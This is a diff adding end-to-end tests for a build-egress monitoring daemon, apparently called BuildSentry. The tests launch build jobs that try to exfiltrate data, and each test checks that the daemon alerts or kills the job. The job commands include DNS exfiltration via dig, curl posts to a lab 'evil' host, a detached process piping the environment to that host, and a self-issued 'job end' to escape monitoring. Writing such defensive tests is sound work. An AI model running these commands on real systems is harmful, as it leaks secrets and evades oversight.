@@ -1,0 +1,89 @@
+using BuildSentry.Testing.Lab;
+using static BuildSentry.EndToEnd.ScenarioTests;
+
+namespace BuildSentry.EndToEnd;
+
+/// <summary>The other ways out that the daemon must catch, each with the real tool a build would use.</summary>
+[Collection(LabCollection.Name)]
+public sealed class ViolationTests(LabFixture fixture)
+{
+    private NetworkLab Lab => fixture.Lab;
+
+    [Fact]
+    public async Task DNS_exfiltration_through_dig_is_alerted_with_the_name_and_the_dig_process()
+    {
+        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(5));
+        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
+        var name = $"mfrggzdfmztwq2lk{Random.Shared.Next(1000, 9999)}.{NetworkLab.ExfilDomain}";
+        using var job = BuildJob.Start(Lab, $"dig +short +tries=1 {name} > /dev/null; echo done");
+        await job.WaitAsync();
+
+        var alert = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.dns" && Names(a).Contains(name));
+        Assert.Equal(job.JobId, Str(alert, "job"));
+        Assert.EndsWith("/dig", Str(alert, "exe"));
+        Assert.Equal("53", Str(alert, "dport"));
+    }
+
+    [Fact]
+    public async Task A_connection_to_an_IP_literal_of_an_unknown_host_is_alerted_without_any_name()
+    {
+        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(5));
+        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
+        using var job = BuildJob.Start(Lab, $"curl -s -m 5 http://{Lab.Evil.IPv4}:{NetworkLab.SinkPort}/ -d x > /dev/null; echo done");
+        await job.WaitAsync();
+
+        var alert = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.connection" && Str(a, "dst") == Lab.Evil.IPv4.ToString());
+        Assert.Equal(job.JobId, Str(alert, "job"));
+        Assert.Empty(Names(alert));
+        Assert.Equal(NetworkLab.SinkPort.ToString(System.Globalization.CultureInfo.InvariantCulture), Str(alert, "dport"));
+    }
+
+    [Fact]
+    public async Task A_daemonized_descendant_that_exfiltrates_after_its_parent_exited_gets_the_job_killed()
+    {
+        // 20 ms of link delay, as in the seed scenario: the payload follows the SYN by one round trip.
+        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
+        var sinkBefore = SinkBytes();
+        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("kill"));
+        using var job = BuildJob.Start(Lab, $$"""
+            ( setsid sh -c 'sleep 1; env | curl -s -m 5 --data-binary @- http://{{Lab.Evil.IPv4}}:{{NetworkLab.SinkPort}}/' & )
+            echo parent leaving
+            """);
+        var result = await job.WaitAsync();
+        Assert.Equal(0, result.ExitCode);
+
+        var alert = await daemon.WaitForAlertAsync(a => Str(a, "job") == job.JobId && Str(a, "action") == "killed");
+        Assert.Equal(Lab.Evil.IPv4.ToString(), Str(alert, "dst"));
+        Assert.EndsWith("/curl", Str(alert, "exe"));
+        await Task.Delay(200);
+        Assert.Empty(job.Survivors());
+        var report = await ReportAsync(daemon, job);
+        Assert.True(sinkBefore == SinkBytes(), $"payload reached the sink: {SinkBytes() - sinkBefore} bytes; report kill {report.GetProperty("kill")}");
+    }
+
+    [Fact]
+    public async Task A_job_that_calls_job_end_on_itself_is_refused_and_alerted()
+    {
+        await Lab.SetDelayAsync(TimeSpan.Zero);
+        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
+        using var job = BuildJob.Start(Lab, $"{DaemonProcess.Binary} job end --socket {daemon.SocketPath}; echo \"exit=$?\"; sleep 0.2");
+        var result = await job.WaitAsync();
+
+        Assert.Contains("exit=1", result.StandardOutput);
+        Assert.Contains("may not end a job", result.StandardError);
+        var alert = await daemon.WaitForAlertAsync(a => Kind(a) == "tamper.control-refused");
+        Assert.Equal("refused", Str(alert, "action"));
+        Assert.Contains(job.JobId, Str(alert, "reason"));
+        var report = await ReportAsync(daemon, job);
+        Assert.Equal("every process of the job exited", report.GetProperty("endReason").GetString());
+    }
+
+    /// <summary>Bytes the sink port of evil.test has received, summed over its log.</summary>
+    private static long SinkBytes()
+    {
+        var log = Path.Combine(NetworkLab.StateDirectory, "recv", "evil.test.log");
+        return File.Exists(log)
+            ? File.ReadAllLines(log).Select(l => l.Split(' ')).Where(f => f.Length > 3 && f[1] == "sink").Sum(f => long.Parse(f[3], System.Globalization.CultureInfo.InvariantCulture))
+            : 0;
+    }
+}
